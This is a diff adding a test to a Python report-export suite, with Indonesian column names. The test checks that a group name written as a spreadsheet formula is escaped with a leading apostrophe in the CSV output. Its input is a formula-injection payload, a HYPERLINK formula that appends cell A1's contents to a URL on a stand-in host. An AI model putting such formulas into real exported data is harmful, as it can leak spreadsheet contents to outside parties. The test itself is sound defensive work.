@@ -61,6 +61,14 @@ def test_the_csv_reads_back_as_the_report():
             ("1", HOSTILE, 40.6, "yes" if english else "ya", 150)]
 
 
+def test_a_name_a_spreadsheet_would_run_as_a_formula_stays_text():
+    hostile = report()
+    hostile["groups"][0]["name"] = '=HYPERLINK("http://contoh.example/?x="&A1,"KIM")'
+    text, _ = evaluation.as_csv(hostile, english=False)
+    [row] = list(csv.DictReader(io.StringIO(text)))
+    assert row["nama"] == "'" + hostile["groups"][0]["name"]
+
+
 def test_the_default_period_is_the_last_twelve_whole_months():
     from datetime import date
     assert evaluation.last_twelve_months(date(2026, 1, 5)) == ("2025-01", "2025-12")
